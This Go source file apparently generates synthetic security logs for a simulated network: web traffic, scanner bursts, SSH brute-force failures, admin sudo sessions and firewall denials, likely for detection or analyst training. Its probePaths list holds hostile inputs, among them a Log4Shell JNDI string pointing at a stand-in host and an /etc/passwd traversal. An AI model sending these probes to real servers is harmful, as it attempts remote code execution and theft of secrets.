package sample

import "strings"

// scanners are addresses of the internet that try every door.
func scanner(r *rng) string {
	return "198.18." + itoa(200+r.n(40)) + "." + itoa(1+r.n(250))
}

func (g *gen) syslogLine(h *host, at tick, facility, severity, process string, pid int, message string) {
	g.t.syslog.open(at).time("EventTime", at-at%second).pre(`,"SourceSystem":"Linux","Computer":`).jsonValue(h.name).s("HostName", h.name).s("HostIP", h.ip).
		s("Facility", facility).s("SeverityLevel", severity).s("ProcessName", process).i("ProcessID", int64(pid)).s("SyslogMessage", message).
		s("CollectorHostName", g.co.log.name).s("_ResourceId", h.resource).end()
}

func (t *table) jsonValue(v string) *table {
	t.buf = appendString(t.buf, v)
	return t
}

var webPaths = []string{"/", "/products", "/products/nv-420", "/support", "/support/manuals/nv-420.pdf", "/news", "/contact", "/jobs", "/assets/app.js", "/assets/site.css", "/images/lab.jpg", "/robots.txt"}

var probePaths = []string{
	"/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/actuator/health", "/cgi-bin/luci", "/boaform/admin/formLogin", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/api/v1/pods", "/solr/admin/info/system", "/?x=${jndi:ldap://198.18.222.9/a}", "/../../../../etc/passwd", "/owa/auth/logon.aspx", "/admin/config.php",
}

// linux writes a day of the web server and the log collector.
func (g *gen) linux(d int) {
	r := g.fork("linux", d)
	c := &g.co
	from, to := max(g.midnight(d), g.start), g.midnight(d+1)
	for range 330 {
		at := from + r.span(to-from)
		g.webHit(r, at, "198.18."+itoa(30+r.n(90))+"."+itoa(r.n(255)), "GET", pick(r, webPaths), pick(r, []int{200, 200, 200, 304, 301}), browserAgent)
	}
	for range 18 { // bursts of a scanner
		at, ip := from+r.span(to-from), scanner(r)
		for i := range r.between(3, 12) {
			g.webHit(r, at+tick(i*700)*milli, ip, "GET", pick(r, probePaths), pick(r, []int{404, 404, 404, 403, 400}), pick(r, []string{"Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "curl/8.4.0", "Go-http-client/1.1"}))
		}
	}
	for range 26 {
		at, ip := from+r.span(to-from), scanner(r)
		for i := range r.between(2, 7) {
			pid := r.between(1000, 60000)
			user := pick(r, []string{"root", "admin", "ubuntu", "oracle", "test", "deploy", "git", "postgres"})
			g.syslogLine(c.web, at+tick(i*3)*second, "auth", "info", "sshd", pid, "Failed password for invalid user "+user+" from "+ip+" port "+itoa(r.between(30000, 65000))+" ssh2")
		}
	}
	for _, h := range []*host{c.web, c.log} {
		for i := range 24 * 4 {
			at := g.midnight(d) + tick(i)*15*minute + second + r.span(second)
			pid := r.between(1000, 60000)
			g.syslogLine(h, at, "cron", "info", "CRON", pid, "(root) CMD (/usr/lib/sysstat/debian-sa1 1 1)")
			if i%4 == 1 {
				g.syslogLine(h, at+20*second, "authpriv", "info", "CRON", pid+1, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
				g.syslogLine(h, at+21*second, "authpriv", "info", "CRON", pid+1, "pam_unix(cron:session): session closed for user root")
			}
		}
		for range 24 {
			g.syslogLine(h, from+r.span(to-from), "daemon", "info", "systemd", 1, pick(r, []string{
				"Started Daily apt download activities.", "Starting Refresh fwupd metadata and update motd...", "logrotate.service: Deactivated successfully.", "Started Session cleanup.",
				"Finished Rotate log files.", "apt-daily.service: Consumed 2.113s CPU time.", "Reloading nginx.service - high performance web server...",
			}))
		}
		for range 20 {
			g.syslogLine(h, from+r.span(to-from), "kern", "warning", "kernel", 0, "[UFW BLOCK] IN=eth0 OUT= SRC="+scanner(r)+" DST="+h.ip+" LEN=40 TTL=244 PROTO=TCP SPT="+itoa(r.between(30000, 65000))+" DPT="+pick(r, []string{"23", "445", "3389", "6379", "8080"})+" WINDOW=1024 SYN URGP=0")
		}
	}
	if !weekend(d) {
		g.linuxAdmin(r, d)
	}
	g.inbound(r, from, to)
	g.webToData(r, from, to)
}

func (g *gen) webHit(r *rng, at tick, ip, method, path string, status int, agent string) {
	sev := "info"
	if status >= 400 {
		sev = "notice"
	}
	g.syslogLine(g.co.web, at, "local7", sev, "nginx", 812, ip+` - - "`+method+" "+path+` HTTP/1.1" `+itoa(status)+" "+itoa(r.between(120, 90000))+` "-" "`+agent+`"`)
}

// linuxAdmin is the network administrator at work, by key, with sudo.
func (g *gen) linuxAdmin(r *rng, d int) {
	for i := range r.between(1, 3) {
		at := g.midnight(d) + tick(12+i*2)*hour + r.span(90*minute)
		h := pick(r, []*host{g.co.web, g.co.log})
		user, ip, pid := "smiller", g.co.bySam["smiller"].host.ip, r.between(2000, 60000)
		g.syslogLine(h, at, "auth", "info", "sshd", pid, "Accepted publickey for "+user+" from "+ip+" port "+itoa(r.between(49200, 65000))+" ssh2: ED25519 SHA256:"+strings.Repeat("q", 3)+r.hex(40))
		g.syslogLine(h, at+second, "authpriv", "info", "sshd", pid, "pam_unix(sshd:session): session opened for user "+user+"(uid=1004) by (uid=0)")
		g.syslogLine(h, at+40*second, "authpriv", "notice", "sudo", pid+40, user+" : TTY=pts/0 ; PWD=/home/"+user+" ; USER=root ; COMMAND="+pick(r, []string{"/usr/bin/apt upgrade -y", "/usr/bin/systemctl restart nginx", "/usr/bin/tail -f /var/log/nginx/error.log", "/usr/bin/vi /etc/nginx/nginx.conf", "/usr/bin/tcpdump -i eth0 port 514"}))
		g.syslogLine(h, at+20*minute, "authpriv", "info", "sshd", pid, "pam_unix(sshd:session): session closed for user "+user)
	}
}

// inbound is what the firewall refuses from the internet.
func (g *gen) inbound(r *rng, from, to tick) {
	for range 420 {
		at := from + r.span(to-from)
		o, name := ghent, "fw-ghent-01"
		if r.chance(40) {
			o, name = halifax, "fw-halifax-01"
		}
		g.t.cef.open(at).s("DeviceVendor", "Palo Alto Networks").s("DeviceProduct", "PAN-OS").s("DeviceVersion", "10.2.7").s("DeviceEventClassID", "drop").
			s("Activity", "TRAFFIC").s("LogSeverity", "3").s("DeviceAction", "deny").s("SimplifiedDeviceAction", "deny").s("DeviceName", name).s("Computer", g.co.log.name).
			s("SourceIP", scanner(r)).i("SourcePort", int64(r.between(30000, 65000))).s("DestinationIP", o.egress).
			i("DestinationPort", int64(pick(r, []int{22, 23, 80, 445, 1433, 3389, 5060, 5900, 6379, 8080, 8443}))).s("Protocol", "tcp").s("ApplicationProtocol", "incomplete").
			i("SentBytes", 60).i("ReceivedBytes", 0).s("CommunicationDirection", "Inbound").i("EventCount", 1).
			pre(`,"DeviceCustomString1":"deny-inbound","DeviceCustomString1Label":"Rule"`).s("DeviceExternalID", r.hex(12)).pre(g.logTail).end()
	}
}

// webToData are the look-ups of the web server in the database.
func (g *gen) webToData(r *rng, from, to tick) {
	c := &g.co
	for range 130 {
		g.vmConnection(r, c.web, "node", from+r.span(to-from), conn{domain: c.sql.fqdn, ip: c.sql.ip, port: 1433, sent: int64(r.between(300, 3000)), recv: int64(r.between(500, 60_000))})
	}
}
